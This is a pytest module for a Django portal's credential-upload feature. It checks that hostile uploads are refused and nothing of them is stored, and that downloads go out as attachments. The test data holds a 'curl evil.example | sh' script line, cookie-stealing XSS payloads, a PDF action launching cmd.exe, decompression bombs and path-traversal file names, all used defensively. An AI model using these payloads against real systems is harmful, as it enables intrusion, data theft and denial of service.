"""Hostile credential documents: every one is refused with a message on the form and leaves nothing behind.

The corpus is made here, in code. Each file goes through the real upload page (and the admin's, which
runs the same checks): refused, the page says why, no credential row, no file in private storage.
Accepted documents are stored under generated names and only ever served as attachments.
"""

import base64
import re
import zlib
from pathlib import Path

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from pytest_django.asserts import assertContains

from tests.factories import CredentialFactory
from tests.volunteers.documents import (
    deflate_with_a_stored_part,
    deflated_zeros,
    jpeg,
    jpeg_segment,
    lzw_zeros,
    pdf,
    pdf_stream,
    png,
    png_chunk,
)
from volunteers.models import Credential

pytestmark = pytest.mark.django_db

CREDENTIALS_URL = reverse("volunteers:credentials")
ADMIN_ADD_URL = reverse("admin:volunteers_credential_add")


JPEG_WITH_XMP = jpeg(
    1,
    1,
    jpeg_segment(
        0xE1,
        b"http://ns.adobe.com/xap/1.0/\x00"
        b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b'<rdf:RDF><rdf:Description rdf:about=""/></rdf:RDF></x:xmpmeta>',
    ),
)
PDF = pdf()
HTML = b"<!doctype html><html><body><script>fetch('/me/export/').then(r => r.text())</script></body></html>"

NOT_A_DOCUMENT = "This file is not a PDF, JPEG or PNG document."
POLYGLOT = "This file contains web page code as well as a"
PDF_ACTIVE = "This PDF contains scripts, attached files or actions that start programs"
MISMATCH = "The name of the file does not match its content"
DOUBLE_EXTENSION = "The name of the file ends with two extensions"
PATH_IN_NAME = "The name of the file contains a folder path or characters that a file name cannot have."
TOO_LARGE = "The file is larger than 5 MB, the most a document may be."
EMPTY = "The file is empty. Choose the scan or photo of your document again."
TOO_MANY_PIXELS = "This image is 100000 × 100000 pixels, more than any scan needs."
DAMAGED = "This PNG image is damaged."
JPEG_TOO_MANY_PIXELS = "This image is 65000 × 65000 pixels, more than any scan needs."
JPEG_DAMAGED = "This JPEG image is damaged."
PDF_IMAGE_TOO_LARGE = "This PDF contains an image of 65000 × 65000 pixels, more than any scan needs."
PDF_UNPACKS_TOO_MUCH = "This PDF document unpacks to more than 150 MB when it is opened"
PNG_UNPACKS_TOO_MUCH = "This PNG document unpacks to more than 150 MB when it is opened"
PDF_UNCHECKED = "This PDF is encrypted, or put together in a way only a PDF reader can take apart"
IMAGE = b"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8"

# name, content, the message on the form. Every entry must be refused.
HOSTILE_FILES = [
    pytest.param("licence.pdf", HTML, NOT_A_DOCUMENT, id="html-renamed-pdf"),
    pytest.param(
        "scan.png",
        png(1, 1, png_chunk(b"tEXt", b"Comment\x00<html><script>alert(document.cookie)</script>")),
        POLYGLOT,
        id="png-html-polyglot",
    ),
    pytest.param("scan.png", png() + HTML, POLYGLOT, id="png-with-html-after-its-end"),
    pytest.param("licence.pdf", pdf(b"% <script>alert(1)</script>\n"), POLYGLOT, id="pdf-html-polyglot"),
    pytest.param(
        "scan.jpg", JPEG_WITH_XMP[:-2] + b'<svg onload="alert(1)"/>' + b"\xff\xd9", POLYGLOT, id="jpeg-svg-polyglot"
    ),
    pytest.param("licence.pdf", PDF + b"0" * (8 * 1024 * 1024), TOO_LARGE, id="oversized-8-mb"),
    pytest.param("licence.html.pdf", PDF, DOUBLE_EXTENSION, id="double-extension-html-pdf"),
    pytest.param("photo.php.jpg", JPEG_WITH_XMP, DOUBLE_EXTENSION, id="double-extension-php-jpg"),
    pytest.param("licence.pdf.html", PDF, MISMATCH, id="double-extension-pdf-html"),
    pytest.param("licence.pdf", b"", EMPTY, id="empty"),
    pytest.param("scan.png", PDF, MISMATCH, id="pdf-claiming-to-be-png"),
    pytest.param(
        "licence.pdf",
        b"MZ\x90\x00\x03" + b"\x00" * 200 + b"This program cannot be run in DOS mode",
        NOT_A_DOCUMENT,
        id="windows-executable",
    ),
    pytest.param("licence.pdf", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, NOT_A_DOCUMENT, id="linux-executable"),
    pytest.param("licence.pdf", b"#!/bin/sh\ncurl evil.example | sh\n", NOT_A_DOCUMENT, id="shell-script"),
    pytest.param(
        "scan.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        NOT_A_DOCUMENT,
        id="svg-with-script-named-png",
    ),
    pytest.param("licence.pdf", b"PK\x03\x04" + b"\x00" * 200, NOT_A_DOCUMENT, id="zip-named-pdf"),
    pytest.param(
        "licence.pdf",
        pdf(b"3 0 obj\n<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>\nendobj\n"),
        PDF_ACTIVE,
        id="pdf-with-javascript",
    ),
    pytest.param(
        "licence.pdf",
        pdf(b"3 0 obj\n<< /S /J#61vaScript /J#53 (app.alert(1)) >>\nendobj\n"),
        PDF_ACTIVE,
        id="pdf-with-javascript-spelled-in-escapes",
    ),
    pytest.param(
        "licence.pdf",
        pdf(b"3 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"),
        PDF_ACTIVE,
        id="pdf-launching-a-program",
    ),
    pytest.param(
        "licence.pdf",
        pdf(b"3 0 obj\n<< /Names << /EmbeddedFiles 4 0 R >> >>\nendobj\n"),
        PDF_ACTIVE,
        id="pdf-with-an-embedded-file",
    ),
    pytest.param("bomb.png", png(100_000, 100_000), TOO_MANY_PIXELS, id="png-decompression-bomb"),
    # Decompression bombs in every accepted format: each file is small, what it unpacks to is not.
    pytest.param("scan.jpg", jpeg(65_000, 65_000), JPEG_TOO_MANY_PIXELS, id="jpeg-declaring-65000-squared"),
    pytest.param(
        "scan.jpg", jpeg(65_000, 65_000, frame=0xC2), JPEG_TOO_MANY_PIXELS, id="progressive-jpeg-65000-squared"
    ),
    pytest.param(
        "scan.jpg",
        b"\xff\xd8" + jpeg_segment(0xE0, b"JFIF\x00") + jpeg_segment(0xDA, b"\x01\x01\x00") + b"\xff\xd9",
        JPEG_DAMAGED,
        id="jpeg-without-a-frame-header",
    ),
    pytest.param("scan.jpg", b"\xff\xd8\xff" + b"\x00" * 64, JPEG_DAMAGED, id="jpeg-without-its-structure"),
    pytest.param(
        "licence.pdf",
        pdf(pdf_stream(3, b"/Filter /FlateDecode", deflated_zeros())),
        PDF_UNPACKS_TOO_MUCH,
        id="pdf-stream-inflating-to-200-mb",
    ),
    pytest.param(
        "licence.pdf",
        pdf(pdf_stream(3, b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(deflated_zeros(), 9))),
        PDF_UNPACKS_TOO_MUCH,
        id="pdf-stream-deflated-twice",
    ),
    pytest.param(
        "licence.pdf",
        pdf(pdf_stream(3, b"/Filter [/ASCII85Decode /Fl]", base64.a85encode(deflated_zeros()) + b"~>")),
        PDF_UNPACKS_TOO_MUCH,
        id="pdf-stream-deflated-behind-ascii85",
    ),
    pytest.param(
        "licence.pdf",
        pdf(pdf_stream(3, b"/Filter /LZWDecode", lzw_zeros(30))),
        PDF_UNPACKS_TOO_MUCH,
        id="pdf-stream-lzw-bomb",
    ),
    pytest.param(
        "licence.pdf",
        pdf(pdf_stream(3, b"/Filter /RunLengthDecode", b"\x81\x00" * 1_300_000 + b"\x80")),
        PDF_UNPACKS_TOO_MUCH,
        id="pdf-stream-run-length-bomb",
    ),
    pytest.param(
        "licence.pdf",
        pdf(pdf_stream(3, b"/Filter /Fl#61teDecode", deflated_zeros())),
        PDF_UNPACKS_TOO_MUCH,
        id="pdf-filter-spelled-in-escapes",
    ),
    pytest.param(
        "licence.pdf",
        # A reader trusts the length; a check that stopped at the first "endstream" would see nothing.
        pdf(pdf_stream(3, b"/Filter /FlateDecode", deflate_with_a_stored_part(b"\nendstream\nendobj\n", 200))),
        PDF_UNPACKS_TOO_MUCH,
        id="pdf-stream-with-endstream-inside-its-data",
    ),
    pytest.param(
        "licence.pdf",
        pdf(*[pdf_stream(number, b"/Filter /FlateDecode", deflated_zeros(40)) for number in range(3, 8)]),
        PDF_UNPACKS_TOO_MUCH,
        id="pdf-five-streams-of-40-mb",
    ),
    pytest.param(
        "licence.pdf",
        pdf(pdf_stream(3, IMAGE + b" /Width 65000 /Height 65000 /Filter /FlateDecode", zlib.compress(b"\0" * 64))),
        PDF_IMAGE_TOO_LARGE,
        id="pdf-image-declaring-65000-squared",
    ),
    pytest.param(
        "licence.pdf",
        pdf(pdf_stream(3, IMAGE + b" /Width 100 /Height 100 /Filter /DCTDecode", jpeg(65_000, 65_000))),
        PDF_IMAGE_TOO_LARGE,
        id="pdf-jpeg-image-whose-own-header-declares-65000-squared",
    ),
    pytest.param(
        "licence.pdf",
        pdf(
            pdf_stream(3, b"/Filter /FlateDecode", zlib.compress(b"q BI /W 65000 /H 65000 /CS /G /BPC 8 ID \0\0 EI Q"))
        ),
        PDF_IMAGE_TOO_LARGE,
        id="pdf-inline-image-declaring-65000-squared",
    ),
    pytest.param(
        "licence.pdf",
        pdf(pdf_stream(3, IMAGE + b" /Width 4 0 R /Height 4 0 R", b"\0" * 16)),
        PDF_UNCHECKED,
        id="pdf-image-whose-size-is-hidden-in-an-object-stream",
    ),
    pytest.param(
        "licence.pdf",
        pdf(b"4 0 obj\n<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>\nendobj\n")[:-22]
        + b"trailer\n<< /Root 1 0 R /Encrypt 4 0 R >>\n%%EOF\n",
        PDF_UNCHECKED,
        id="pdf-encrypted",
    ),
    pytest.param(
        "scan.png",
        png(1, 1, png_chunk(b"zTXt", b"Comment\x00\x00" + deflated_zeros())),
        PNG_UNPACKS_TOO_MUCH,
        id="png-text-inflating-to-200-mb",
    ),
    pytest.param(
        "scan.png",
        png(1, 1, png_chunk(b"iCCP", b"sRGB\x00\x00" + deflated_zeros())),
        PNG_UNPACKS_TOO_MUCH,
        id="png-colour-profile-inflating-to-200-mb",
    ),
    pytest.param("scan.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 64, DAMAGED, id="png-without-its-header"),
    pytest.param("..%2F..%2Fsettings.pdf", PDF, PATH_IN_NAME, id="dot-dot-slash-percent-encoded"),
    pytest.param("licence..pdf", PDF, PATH_IN_NAME, id="dot-dot-in-the-name"),
    pytest.param("licence%00.pdf", PDF, PATH_IN_NAME, id="encoded-null-byte"),
    pytest.param("a" * 250 + ".pdf", PDF, "The name of the file is too long.", id="name-too-long"),
]


def credential_fields(**overrides) -> dict[str, str]:
    return {
        "kind": "licence",
        "title": "Licence to practise medicine",
        "issuing_country": "NG",
        "number": "MDCN-48213",
        "issued_on": "2019-03-01",
        **overrides,
    }


def multipart(fields: dict[str, str], filename: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body written by hand: the test client would cut the file name down to its last part."""
    boundary = "----hostile-upload-boundary"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="document"; filename="'.encode()
        + filename.encode("utf-8", "surrogateescape")
        + b'"\r\nContent-Type: application/pdf\r\n\r\n'
        + content
        + b"\r\n"
    )
    return b"".join(parts) + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def upload(client, url: str, filename: str, content: bytes, **fields):
    body, content_type = multipart(credential_fields(**fields), filename, content)
    return client.post(url, data=body, content_type=content_type)


def stored_files(root: Path) -> list[Path]:
    return [path for path in root.rglob("*") if path.is_file()] if root.exists() else []


@pytest.fixture
def volunteer_client(client, volunteer):
    client.force_login(volunteer.user)
    return client


@pytest.fixture
def admin_client(client, site_admin):
    client.force_login(site_admin)
    return client


# The volunteer's upload page


@pytest.mark.parametrize(("filename", "content", "message"), HOSTILE_FILES)
def test_hostile_file_is_refused_with_a_message_and_nothing_is_stored(
    volunteer_client, private_media_in_tmp, filename, content, message
):
    response = upload(volunteer_client, CREDENTIALS_URL, filename, content)

    assert response.status_code == 200
    assertContains(response, "The credential was not uploaded: see the messages below.")
    errors = response.context["form"].errors["document"]
    assert any(error.startswith(message) for error in errors), errors
    assertContains(response, message)
    assert not Credential.objects.exists()
    assert stored_files(private_media_in_tmp) == []


def test_a_null_byte_in_the_name_cannot_hide_the_real_extension(volunteer_client, private_media_in_tmp):
    # The parser drops the NUL ("licence.pdf.html"): the name then says HTML and the content PDF.
    response = upload(volunteer_client, CREDENTIALS_URL, "licence.pdf\x00.html", PDF)

    assertContains(response, MISMATCH)
    assert not Credential.objects.exists()
    assert stored_files(private_media_in_tmp) == []


@pytest.mark.parametrize("filename", ["../../../../escape.pdf", "..\\..\\..\\escape.pdf", "/etc/escape.pdf"])
def test_a_path_in_the_name_never_reaches_storage(volunteer_client, private_media_in_tmp, filename):
    # Django's multipart parser keeps only the name's last part before any of our code sees it, so a
    # plain "../" cannot be told from a browser that sends a full path (old ones did): the document is
    # kept, under a generated name inside private storage, with nothing of the name the uploader gave.
    response = upload(volunteer_client, CREDENTIALS_URL, filename, PDF)

    assert response.status_code == 302
    credential = Credential.objects.get()
    assert re.fullmatch(r"credentials/[0-9a-f]{32}\.pdf", credential.document.name)
    assert stored_files(private_media_in_tmp) == [private_media_in_tmp / credential.document.name]
    assert not list(private_media_in_tmp.parent.rglob("escape*"))


@pytest.mark.parametrize(
    ("filename", "content", "extension"),
    [
        ("Dr. A. Okafor licence (2024).PDF", PDF, ".pdf"),
        # Opening at a page and fitting it is an action, but not one that runs anything.
        ("licence.pdf", pdf(b"3 0 obj\n<< /OpenAction [1 0 R /Fit] >>\nendobj\n"), ".pdf"),
        ("scan.JPEG", JPEG_WITH_XMP, ".jpg"),
        ("scan.jpg", jpeg(4960, 7016, frame=0xC2), ".jpg"),  # an A4 page scanned at 600 dpi, progressive
        ("scan.png", png(4960, 7016), ".png"),
        ("scan.png", png(1, 1, png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"Scanned 2026"))), ".png"),
        # A scanner's PDF: a page whose content draws a JPEG of the page and a small inline image, compressed.
        (
            "scan.pdf",
            pdf(
                pdf_stream(
                    3,
                    b"/Filter /FlateDecode",
                    zlib.compress(
                        b"q 595 0 0 842 0 0 cm /Im1 Do Q BI /W 8 /H 8 /CS /G /BPC 8 ID " + b"\0" * 64 + b" EI"
                    ),
                ),
                pdf_stream(4, IMAGE + b" /Width 2480 /Height 3508 /Filter /DCTDecode", jpeg(2480, 3508)),
                pdf_stream(
                    5, b"/Filter [/ASCII85Decode /FlateDecode]", base64.a85encode(zlib.compress(b"BT ET" * 100)) + b"~>"
                ),
                pdf_stream(6, b"/Filter /LZWDecode", lzw_zeros(1)),
                pdf_stream(7, b"/Filter /FlateDecode", deflated_zeros(100)),
            ),
            ".pdf",
        ),
    ],
)
def test_genuine_documents_are_stored_under_a_generated_name_typed_from_their_content(
    volunteer_client, private_media_in_tmp, filename, content, extension
):
    response = upload(volunteer_client, CREDENTIALS_URL, filename, content)

    assert response.status_code == 302
    credential = Credential.objects.get()
    assert re.fullmatch(rf"credentials/[0-9a-f]{{32}}\{extension}", credential.document.name)
    assert (private_media_in_tmp / credential.document.name).read_bytes() == content


# The admin runs the same checks


def admin_fields(volunteer, **overrides) -> dict[str, str]:
    return credential_fields(profile=str(volunteer.pk), status="pending", expires_on="", **overrides)


@pytest.mark.parametrize(
    ("filename", "content", "message"),
    [
        pytest.param("licence.pdf", HTML, NOT_A_DOCUMENT, id="html-renamed-pdf"),
        pytest.param("scan.png", png() + HTML, POLYGLOT, id="png-html-polyglot"),
        pytest.param("licence.html.pdf", PDF, DOUBLE_EXTENSION, id="double-extension"),
        pytest.param("licence.pdf", b"", "The submitted file is empty.", id="empty"),  # Django's own check
    ],
)
def test_admin_cannot_store_a_hostile_document_either(
    admin_client, volunteer, private_media_in_tmp, filename, content, message
):
    response = upload(admin_client, ADMIN_ADD_URL, filename, content, **admin_fields(volunteer))

    assert response.status_code == 200
    assertContains(response, message)
    assert not Credential.objects.exists()
    assert stored_files(private_media_in_tmp) == []


def test_admin_uploads_a_document_sent_by_post_under_a_generated_name(admin_client, volunteer, private_media_in_tmp):
    response = upload(admin_client, ADMIN_ADD_URL, "scan from the volunteer.pdf", PDF, **admin_fields(volunteer))

    assert response.status_code == 302
    credential = Credential.objects.get()
    assert re.fullmatch(r"credentials/[0-9a-f]{32}\.pdf", credential.document.name)
    # The change form offers the checked download, never a link to the storage path.
    page = admin_client.get(reverse("admin:volunteers_credential_change", args=[credential.pk])).content.decode()
    assert reverse("placements:credential-document", args=[credential.pk]) in page
    assert credential.document.name not in page


def test_admin_replacing_a_document_checks_the_new_one_and_deletes_the_old(
    admin_client, volunteer, private_media_in_tmp, django_capture_on_commit_callbacks
):
    credential = CredentialFactory(profile=volunteer, document=SimpleUploadedFile("old.pdf", PDF))
    old_name = credential.document.name
    url = reverse("admin:volunteers_credential_change", args=[credential.pk])
    fields = admin_fields(volunteer, title=credential.title, issuing_country="CA", number=credential.number)

    refused = upload(admin_client, url, "new.pdf", HTML, **fields)
    with django_capture_on_commit_callbacks(execute=True):
        accepted = upload(admin_client, url, "new.png", png(), **fields)

    assert refused.status_code == 200
    assertContains(refused, NOT_A_DOCUMENT)
    assert accepted.status_code == 302
    credential.refresh_from_db()
    assert credential.document.name != old_name and credential.document.name.endswith(".png")
    assert not default_storage.exists(old_name)
    assert stored_files(private_media_in_tmp) == [private_media_in_tmp / credential.document.name]


# Downloading: only through the checked view, as an attachment the browser may not sniff


def test_download_is_an_attachment_with_a_generated_name_nosniff_and_its_checked_type(volunteer_client, volunteer):
    upload(volunteer_client, CREDENTIALS_URL, "<b onmouseover=alert(1)>My licence.pdf", PDF)
    credential = Credential.objects.get()

    response = volunteer_client.get(reverse("placements:credential-document", args=[credential.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == f'attachment; filename="credential-{credential.pk}.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert b"".join(response.streaming_content) == PDF


def test_a_stored_file_changed_behind_the_portals_back_is_served_as_opaque_bytes(volunteer_client, volunteer):
    credential = CredentialFactory(profile=volunteer, document=SimpleUploadedFile("licence.pdf", PDF))
    with default_storage.open(credential.document.name, "wb") as file:
        file.write(HTML)

    response = volunteer_client.get(reverse("placements:credential-document", args=[credential.pk]))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"] == f'attachment; filename="credential-{credential.pk}"'
    assert response["X-Content-Type-Options"] == "nosniff"
